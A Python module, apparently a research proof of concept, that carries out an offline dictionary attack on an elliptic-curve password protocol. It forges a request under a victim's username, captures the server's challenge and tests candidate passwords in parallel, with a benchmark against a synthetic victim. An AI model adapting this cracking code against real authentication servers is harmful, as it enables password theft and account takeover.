"""Offline password guessing against captured challenges.

The adversary sends ``R1 = r1 * G`` under the victim's username.  The server
answers with ``SK_S = HPW^-1 * r1 * r2 * G`` folded into ``h1``, so every
dictionary candidate can be tested offline with one hash, one inversion mod
n and one scalar multiplication of ``R2``.
"""

from __future__ import annotations

import multiprocessing
import random
import string
import time
from dataclasses import asdict, dataclass
from multiprocessing.connection import wait
from typing import List, Optional, Sequence

from .codec import check_token, digest_to_scalar, encode_point, hash_concat
from .ecc import CurveParams, scalar_mul, validate_point
from .errors import InvalidPoint, ScalarDegenerate
from .protocol import ChallengeMsg, RequestMsg, ServerKey, random_scalar, register, server_challenge


@dataclass(frozen=True)
class AttackState:
    username: str
    r1: int
    curve: CurveParams


@dataclass
class AttackStats:
    guesses_tried: int = 0
    skipped_degenerate: int = 0
    elapsed_s: float = 0.0
    rate_gps: float = 0.0
    found_index: Optional[int] = None

    def report(self, password: Optional[str]) -> dict:
        """The JSON object printed by the ``attack`` and ``bench`` commands."""
        return {"found": password is not None, "password": password, **asdict(self)}


def forge_request(username: str, curve: CurveParams, rng=None):
    check_token(username)
    r1 = random_scalar(curve, rng)
    return AttackState(username, r1, curve), RequestMsg(username, scalar_mul(curve, r1, curve.G))


class _GuessChecker:
    """Per-challenge constants hoisted out of the guessing loop."""

    def __init__(self, state: AttackState, challenge: ChallengeMsg):
        curve = state.curve
        if challenge.r2_point is None or not validate_point(curve, challenge.r2_point):
            raise InvalidPoint("captured R2 is not a finite curve point")
        self.state = state
        self.r2_point = challenge.r2_point
        self.r2_bytes = encode_point(challenge.r2_point, curve)
        self.h1 = challenge.h1

    def __call__(self, candidate: str) -> Optional[bool]:
        """True/False for a usable guess, None when its HPW is zero mod n."""
        state, curve = self.state, self.state.curve
        try:
            hpw = digest_to_scalar(hash_concat(state.username, candidate), curve)
        except ScalarDegenerate:
            return None
        t = pow(hpw, -1, curve.n) * state.r1 % curve.n
        sk = scalar_mul(curve, t, self.r2_point)
        return hash_concat(encode_point(sk, curve), self.r2_bytes) == self.h1


def check_guess(state: AttackState, challenge: ChallengeMsg, candidate: str) -> bool:
    return bool(_GuessChecker(state, challenge)(candidate))


def _worker(conn, state, challenge):
    checker = _GuessChecker(state, challenge)
    try:
        while True:
            job = conn.recv()
            if job is None:
                return
            index, candidate = job
            conn.send((index, checker(candidate)))
    except (EOFError, KeyboardInterrupt):
        pass
    finally:
        conn.close()


def _scan_sequential(checker, dictionary, stats):
    for index, candidate in enumerate(dictionary):
        result = checker(candidate)
        stats.guesses_tried += 1
        if result is None:
            stats.skipped_degenerate += 1
        elif result:
            return index
    return None


def _scan_parallel(state, challenge, dictionary, workers, stats):
    # Index j is handed out only while j < (lowest in-flight index) + workers,
    # which bounds overshoot past a match to workers - 1 guesses.
    ctx = multiprocessing.get_context()
    conns, procs = [], []
    try:
        for _ in range(workers):
            parent, child = ctx.Pipe()
            proc = ctx.Process(target=_worker, args=(child, state, challenge), daemon=True)
            proc.start()
            child.close()
            conns.append(parent)
            procs.append(proc)

        idle = list(reversed(conns))
        inflight = {}
        next_index, found = 0, None
        while True:
            while idle and found is None and next_index < len(dictionary):
                if inflight and next_index >= min(inflight.values()) + workers:
                    break
                conn = idle.pop()
                conn.send((next_index, dictionary[next_index]))
                inflight[conn] = next_index
                next_index += 1
            if not inflight:
                return found
            for conn in wait(list(inflight)):
                index, result = conn.recv()
                del inflight[conn]
                idle.append(conn)
                stats.guesses_tried += 1
                if result is None:
                    stats.skipped_degenerate += 1
                elif result and (found is None or index < found):
                    found = index
    finally:
        for conn in conns:
            try:
                conn.send(None)
            except (BrokenPipeError, OSError):
                pass
            conn.close()
        for proc in procs:
            proc.join(timeout=5)
            if proc.is_alive():
                proc.terminate()


def run_dictionary(state: AttackState, challenge: ChallengeMsg, dictionary: Sequence[str], workers: int = 1):
    """Scan ``dictionary`` in order and return ``(password or None, AttackStats)``.

    The returned password is always the lowest-index match, however many
    workers are used.  No I/O happens here; the challenge is already captured.
    """
    if workers < 1:
        raise ValueError("workers must be >= 1")
    checker = _GuessChecker(state, challenge)
    stats = AttackStats()
    start = time.perf_counter()
    if workers == 1 or len(dictionary) <= 1:
        found = _scan_sequential(checker, dictionary, stats)
    else:
        found = _scan_parallel(state, challenge, dictionary, min(workers, len(dictionary)), stats)
    stats.elapsed_s = time.perf_counter() - start
    if stats.elapsed_s > 0:
        stats.rate_gps = stats.guesses_tried / stats.elapsed_s
    stats.found_index = found
    return (dictionary[found] if found is not None else None), stats


def load_dictionary(path) -> List[str]:
    """One candidate per LF-terminated line; blanks dropped, first occurrence kept."""
    with open(path, encoding="utf-8", newline="") as fh:
        lines = fh.read().split("\n")
    return list(dict.fromkeys(line for line in lines if line))


_ALPHABET = string.ascii_letters + string.digits


def generate_dictionary(size: int, rng: random.Random, length: int = 10) -> List[str]:
    """``size`` distinct pseudo-random candidates, reproducible from ``rng``."""
    seen = dict()
    while len(seen) < size:
        seen.setdefault("".join(rng.choice(_ALPHABET) for _ in range(length)), None)
    return list(seen)


def bench_guess_rate(curve: CurveParams, dict_size: int, seed: int, workers: int = 1) -> AttackStats:
    """Attack a synthetic victim whose password sits at the end of the dictionary."""
    return bench_attack(curve, dict_size, seed, workers)[1]


def bench_attack(curve: CurveParams, dict_size: int, seed: int, workers: int = 1):
    if dict_size < 1:
        raise ValueError("dict_size must be >= 1")
    rng = random.Random(seed)
    username = "victim"
    while True:
        dictionary = generate_dictionary(dict_size, rng)
        server_key = ServerKey(rng.randbytes(32))
        try:
            record = register(username, dictionary[-1], server_key, curve)
            break
        except ScalarDegenerate:
            continue
    state, request = forge_request(username, curve, rng)
    _, challenge = server_challenge(request, record, server_key, "bench", curve, rng)
    return run_dictionary(state, challenge, dictionary, workers)
